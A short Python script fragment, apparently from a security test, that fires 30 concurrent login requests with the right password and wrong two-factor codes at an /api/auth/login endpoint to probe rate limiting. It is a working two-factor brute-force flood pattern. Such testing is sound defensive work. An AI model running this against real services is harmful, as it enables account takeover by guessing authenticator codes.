import sys; BASE=sys.argv[1]; sys.argv=['x',BASE,'none']
exec(open('/tmp/sec3/attack.py').read().split('# ---------------------------------------------------------------- access')[0])
c=client("127.0.0.200")
with cf.ThreadPoolExecutor(30) as ex:
    codes=list(ex.map(lambda i: c.post(f"{BASE}/api/auth/login",json={"email":"elections"+DEMO,"password":PW,"twoFactorCode":"%06d"%(i*7919%1000000)}).status_code, range(30)))
print("FLOOD | 30 wrong authenticator codes at once with the right password, one client |", summary(codes))
